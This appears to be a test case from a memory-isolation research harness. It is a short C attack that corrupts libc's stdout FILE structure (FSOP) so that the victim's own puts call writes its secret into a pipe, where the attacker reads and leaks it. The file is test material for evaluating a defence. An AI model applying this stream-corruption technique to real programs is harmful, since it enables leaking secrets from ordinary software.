/* class: libc
 * source: FSOP; stream buffers are pointers under key 0
 * tries: to have the victim's next puts write out its own secret
 * must: not write the victim's memory for others
 * expect: succeeds until libc's data are private */
#include "attack.h"

ATTACK
{
    int ends[2];
    char bytes[16];
    FILE *file = stdout;
    SYS(SYS_pipe, ends);
    file->_fileno = ends[1];
    file->_IO_read_ptr = file->_IO_read_end = file->_IO_read_base = victim_secret;
    file->_IO_write_base = victim_secret;
    file->_IO_write_ptr = file->_IO_write_end = victim_secret + 16;
    file->_flags = (int)0xfbad1800;
    victim_call(PUTS, 0, 0);
    file->_fileno = 1;
    if (SYS(SYS_read, ends[0], bytes, 16) == 16)
        leak(bytes);
    SYS(SYS_exit_group, 0);
}
